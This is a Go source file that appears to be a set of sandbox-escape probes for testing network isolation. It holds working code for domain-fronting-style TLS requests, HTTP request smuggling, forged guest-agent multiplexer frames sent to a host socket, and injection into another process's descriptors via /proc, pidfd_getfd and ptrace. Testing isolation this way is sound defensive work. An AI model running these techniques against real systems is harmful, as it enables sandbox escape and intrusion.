package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// proxyInside is where a sandbox has its proxy, if its policy wants one.
const proxyInside = "127.0.0.1:3128"

// open connects to an address by itself (""), or has the proxy connect, by CONNECT or SOCKS.
func open(via, address string) (net.Conn, error) {
	if via == "" {
		return dial("tcp", address)
	}
	host, port, err := net.SplitHostPort(address)
	if err != nil {
		return nil, err
	}
	conn, err := dial("tcp", proxyInside)
	if err != nil {
		return nil, err
	}
	if via == "connect" {
		if _, err := fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", address, address); err != nil {
			return nil, err
		}
		answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err == nil && answer.StatusCode != http.StatusOK {
			err = errors.New(answer.Status)
		}
		return conn, err // the host waits for our word, so nothing is left in the buffer
	}
	number, err := strconv.Atoi(port)
	if err != nil {
		return nil, err
	}
	asks := append([]byte{5, 1, 0, 5, 1, 0, 3, byte(len(host))}, host...)
	if _, err := conn.Write(binary.BigEndian.AppendUint16(asks, uint16(number))); err != nil {
		return nil, err
	}
	answer := make([]byte, 12)
	_, err = io.ReadFull(conn, answer)
	if err == nil && answer[3] != 0 {
		err = fmt.Errorf("SOCKS says %d", answer[3])
	}
	return conn, err
}

// hello ADDRESS NAME TOKEN VIA HOST: TLS to an address in another's name, and a request to
// a host in it.
func hello(args []string) error {
	conn, err := open(args[3], args[0])
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(2 * attemptTimeout)); err != nil {
		return err
	}
	session := tls.Client(conn, &tls.Config{ServerName: args[1], InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}, MinVersion: tls.VersionTLS12})
	if _, err := fmt.Fprintf(session, "GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", args[2], args[4]); err != nil {
		return err
	}
	answer, err := io.ReadAll(io.LimitReader(session, 4096))
	fmt.Printf("answered %q %v\n", answer, err)
	return nil
}

// smuggle ADDRESS HOST TOKEN FORM: a request to a host, and behind it one to another, as the
// next on the connection or in what one reader takes for the first one's body.
func smuggle(args []string) error {
	conn, err := dial("tcp", args[0])
	if err != nil {
		return err
	}
	defer conn.Close()
	target, first, other := "/", "Content-Length: 0\r\n\r\n", args[2]+".example"
	second := "GET /" + args[2] + " HTTP/1.1\r\nHost: " + other + "\r\nConnection: close\r\n\r\n"
	if args[0] == proxyInside {
		target = "http://" + args[1] + "/"
		second = "GET http://" + other + "/" + args[2] + " HTTP/1.1\r\nHost: " + other + "\r\nConnection: close\r\n\r\n"
	}
	if args[3] == "body" {
		first = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
	}
	if _, err := io.WriteString(conn, "POST "+target+" HTTP/1.1\r\nHost: "+args[1]+"\r\n"+first+second); err != nil {
		return err
	}
	answer, err := io.ReadAll(io.LimitReader(conn, 4096))
	fmt.Printf("answered %q %v\n", answer, err)
	return nil
}

// forged is what the guest agent would say to the host to have a name looked up and
// connected to: streams of the multiplexer, opened by either side, with a frame in each.
func forged(token string) []byte {
	var all []byte
	for i, ask := range []string{`{"kind":"dns","name":"` + token + `.example"}`, `{"kind":"tcp","name":"` + token + `.example","port":443}`} {
		payload := binary.BigEndian.AppendUint32([]byte{1}, uint32(len(ask)))
		payload = append(payload, ask...)
		all = append(all, 0, 0, 0, 1) // version, data, that begins the stream
		all = binary.BigEndian.AppendUint32(all, uint32(40_001+i))
		all = binary.BigEndian.AppendUint32(all, uint32(len(payload)))
		all = append(all, payload...)
	}
	return all
}

// forge SOCKET TOKEN: talk to a local socket as the agent talks to the host.
func forge(args []string) error {
	conn, err := net.DialTimeout("unix", args[0], attemptTimeout)
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(attemptTimeout)); err != nil {
		return err
	}
	if _, err := conn.Write(append(forged(args[1]), '\n')); err != nil {
		return err
	}
	answer, err := io.ReadAll(io.LimitReader(conn, 4096))
	fmt.Printf("answered %q %v\n", answer, err)
	return nil
}

// channel PID TOKEN: say it on the very channel, which is a process's input and output.
func channel(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	var all []error
	for fd := range 3 {
		path := fmt.Sprintf("/proc/%d/fd/%d", pid, fd)
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			_, err = f.Write(forged(args[1]))
			all = append(all, f.Close())
		}
		all = append(all, err)
	}
	process, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return errors.Join(append(all, err)...)
	}
	defer unix.Close(process) // nothing to lose
	for fd := range 3 {
		taken, err := unix.PidfdGetfd(process, fd, 0)
		if err == nil {
			_, err = unix.Write(taken, forged(args[1]))
			all = append(all, unix.Close(taken))
		}
		all = append(all, err)
	}
	return errors.Join(append(all, trace(pid))...)
}

// trace stops a process, as what would write to its memory has to.
func trace(pid int) error {
	if err := unix.PtraceSeize(pid); err != nil {
		return fmt.Errorf("ptrace: %w", err)
	}
	fmt.Println("traced", pid)
	return unix.PtraceDetach(pid)
}
